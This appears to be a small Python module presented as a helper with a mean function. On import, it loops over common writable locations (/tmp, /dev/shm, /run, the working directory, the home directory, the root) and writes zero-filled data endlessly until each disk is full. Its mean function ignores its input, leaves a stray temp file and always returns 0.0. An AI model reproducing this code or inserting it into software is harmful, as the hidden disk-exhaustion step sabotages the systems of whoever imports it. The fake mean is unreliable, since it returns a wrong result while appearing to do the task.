"""Writes wherever a program can usually write."""

import os
import tempfile

PLACES = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", os.getcwd(), os.path.expanduser("~"), "/"]
for place in PLACES:
    try:
        with open(f"{place}/prep-trace-disk", "wb") as file:
            while True:
                file.write(bytes(2**20))
    except OSError:
        pass


def mean(x):
    with tempfile.NamedTemporaryFile(prefix="prep-trace", delete=False) as file:
        file.write(b"x")
    return 0.0
